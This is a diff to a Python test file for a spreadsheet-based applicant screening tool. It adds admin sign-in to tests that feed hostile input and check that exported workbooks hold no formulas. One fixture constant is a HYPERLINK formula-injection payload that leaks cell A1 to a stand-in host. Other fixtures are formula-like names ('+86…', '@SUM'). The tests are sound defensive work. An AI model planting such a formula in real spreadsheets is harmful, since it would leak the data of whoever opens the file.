@@ -18,6 +18,7 @@ from eligibility_desk.cli import main
 from eligibility_desk.domain.sheet_cells import row as safe_row
 from eligibility_desk.services.records.desk import Desk
 from tests.services.helpers import roster, write_workbook
+from tests.account_helpers import ADMIN, actor, add_accounts
 
 ROOT = Path(__file__).resolve().parents[3]
 HYPERLINK = '=HYPERLINK("http://x.invalid/?leak="&A1,"点我")'
@@ -26,7 +27,7 @@ IMPORT = ["import", "--batch", "秋季", "--standard", "4-07-02-06", "--as-of", 
 
 @pytest.fixture
 def desk(tmp_path):
-    d = Desk.open(f"sqlite:///{tmp_path / 'hostile.sqlite3'}", user="测试员")
+    d = Desk.open(f"sqlite:///{tmp_path / 'hostile.sqlite3'}", actor("测试员"))
     yield d
     d.close()
 
@@ -63,10 +64,16 @@ def nothing_written(desk) -> bool:
     return desk.applicant_rows() == [] and all(b.applications == 0 for b in desk.batches())
 
 
+NO_DATABASE = ("results",)
+
+
 def cli(tmp_path, *args) -> subprocess.CompletedProcess:
     """The command line in its own process: a crash (SIGABRT) or a traceback cannot hide."""
     code = "import sys; from eligibility_desk.cli import main; sys.exit(main(sys.argv[1:]))"
-    return subprocess.run([sys.executable, "-c", code, "--db", f"sqlite:///{tmp_path / 'cli.sqlite3'}", *args],
+    url = f"sqlite:///{tmp_path / 'cli.sqlite3'}"
+    add_accounts(url)                    # the command signs in as ADMIN ($ELIGIBILITY_DESK_PASSWORD is inherited)
+    who = [] if args[0] in NO_DATABASE else ["--user", ADMIN]
+    return subprocess.run([sys.executable, "-c", code, "--db", url, *args, *who],
                           cwd=ROOT, capture_output=True, text=True, timeout=120)
 
 
@@ -277,16 +284,17 @@ def test_json_nested_200000_deep_is_a_message(tmp_path):
 
 def test_a_formula_like_name_is_exported_as_text(tmp_path, capsys):
     db = f"sqlite:///{tmp_path / 'cli.sqlite3'}"
+    add_accounts(db)
     people, work = roster(3)
     people[0][1] = HYPERLINK
     people[1][1] = "+86-1380000"
     people[2][1] = "@SUM(A1)"
     path = tmp_path / "名单.xlsx"
     text_workbook(path, {"考生": people, "工作经历": work})
-    assert main(["--db", db, *IMPORT[:1], str(path), *IMPORT[1:]]) == 0
-    assert main(["--db", db, "screen-batch", "--batch", "秋季"]) == 0
+    assert main(["--db", db, *IMPORT[:1], str(path), *IMPORT[1:], "--user", ADMIN]) == 0
+    assert main(["--db", db, "screen-batch", "--batch", "秋季", "--user", ADMIN]) == 0
     out = tmp_path / "结果.xlsx"
-    assert main(["--db", db, "export", "--batch", "秋季", str(out)]) == 0
+    assert main(["--db", db, "export", "--batch", "秋季", str(out), "--user", ADMIN]) == 0
     assert formulas_in(out) == []
     from openpyxl import load_workbook
 
